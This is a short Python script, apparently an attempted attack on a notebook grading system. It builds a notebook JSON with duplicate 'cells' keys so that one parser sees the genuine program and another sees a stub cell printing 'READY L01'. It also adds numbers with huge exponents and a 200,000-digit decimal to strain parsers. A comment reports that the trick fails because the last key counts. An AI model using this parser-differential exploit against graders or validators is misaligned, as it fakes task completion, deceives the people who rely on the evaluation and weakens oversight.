# Tries: a notebook with two lists of cells, so that one reader sees a right program and another one this program; and numbers with huge exponents.
# Ends: the last list counts, as for every reader of Python; what was graded is shown in the feedback.
import copy
import json


def attack(folder, notebook):
    other = copy.deepcopy(notebook["cells"])
    for cell in other:
        if "%%board main.py" in "".join(cell["source"]):
            cell["source"] = "%%board main.py\nprint('READY L01')\n"
    body = json.dumps(notebook["cells"])
    rest = json.dumps({name: value for name, value in notebook.items() if name != "cells"})
    numbers = '"n": [1e400, -1e99999999, 1E-400, 0.' + "9" * 200_000 + "]"
    return f'{{"cells": {json.dumps(other)}, {numbers}, "cells": 7, {rest[1:-1]}, "cells": {body}}}'
